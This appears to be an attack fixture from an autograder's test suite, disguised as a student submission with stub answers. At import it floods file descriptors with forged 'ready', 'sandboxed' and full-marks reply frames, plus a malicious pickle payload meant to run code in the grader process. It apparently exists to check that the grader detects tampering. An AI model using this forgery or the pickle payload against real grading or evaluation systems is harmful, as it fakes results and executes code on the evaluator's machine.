"""Attack (forging the result): forge the worker's "ready" message and its first replies at import.

While being imported the student writes to fds 3..255 (the result pipe is fd 4 when forked
from the zygote), in this order: a forged "ready" built with the worker's own encoder, a
reply whose array is a pickle that would create a file in the grader's process if it were
ever unpickled, replies for request ids 1..39 claiming full marks, a forged "sandboxed"
event, a frame with a bad marker and one with an absurd length. Then it imports normally,
so the worker's real "ready" follows the forgeries.

Expected: the grader never unpickles, notices the channel was tampered with and restarts the
worker (which forges again); forged replies count at most as that student's own (worthless)
answers; every part 0.
"""


import io
import json
import os
import struct
import sys
import threading
import time

import numpy as np

# Filled in by tests/test_attacks.py (defaults for grading this file by hand).
HOOKS = {"repo": "/work/main", "canary": "/tmp/grader-attack-canary", "submission_dir": "/tmp",
         "tcp_port": 47011, "udp_port": 47012, "marker": "atkmarker"}

MAGIC = b"GRD1"


class Payload:
    """Unpickling this in the grader would create a file in the canary folder."""

    def __reduce__(self):
        return (open, (os.path.join(HOOKS["canary"], "pickle-ran-in-grader"), "w"))


def tagged(value):
    """The wire format's tagging (grader/sandbox/protocol.py is public): dicts as {"$d": ...}."""
    if isinstance(value, dict) and not any(k.startswith("$") for k in value):
        return {"$d": {k: tagged(v) for k, v in value.items()}}
    return value


def frame(tree, blobs=()):
    text = json.dumps(tagged(tree)).encode()
    body = struct.pack("!I", len(text)) + text
    for blob in blobs:
        body += struct.pack("!Q", len(blob)) + blob
    return struct.pack("!4sQ", MAGIC, len(body)) + body


def pickled_array():
    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload(), 1.0], dtype=object), allow_pickle=True)
    return buffer.getvalue()


def _encode(obj):
    try:  # the worker's own encoder is in memory: forge with exactly its format
        return sys.modules["grader.sandbox.protocol"].encode(obj)
    except Exception:  # noqa: BLE001
        return frame(obj)


FULL_MARKS = {"score": 22.0, "max_score": 22.0, "status": "passed"}
FRAMES = {
    "pickle": b"".join(frame({"id": i, "error": None, "value": {"$a": 0}}, [pickled_array()]) for i in range(1, 4)),
    "full_marks": b"".join(_encode({"id": i, "error": None, "value": FULL_MARKS}) for i in range(1, 40)),
    "ready": _encode({"event": "ready", "error": None}),
    "sandboxed": _encode({"event": "sandboxed", "layers": []}),
    "bad_marker": b"BAD!" + struct.pack("!Q", 10) + b"0123456789",
    "too_long": struct.pack("!4sQ", MAGIC, 1 << 62),
}


def keep_spraying():
    for _ in range(200):
        try:
            os.write(4, FRAMES["full_marks"])
        except OSError:
            return
        time.sleep(0.01)


ORDER = ("ready", "pickle", "full_marks", "sandboxed", "bad_marker", "too_long")


def spray_at_import():
    data = b"".join(FRAMES[k] for k in ORDER)
    for fd in range(3, 256):
        try:
            os.write(fd, data)
        except OSError:
            pass


spray_at_import()
threading.Thread(target=keep_spraying, daemon=True).start()


def forward(alpha, beta, x, y):
    return None


def backward(alpha, beta, x, y):
    return None


def chain_rule(dy_dx, dz_dy):
    return None


def d_Ax_dx(A, x):
    return None


def linear_regression(X, y):
    return None
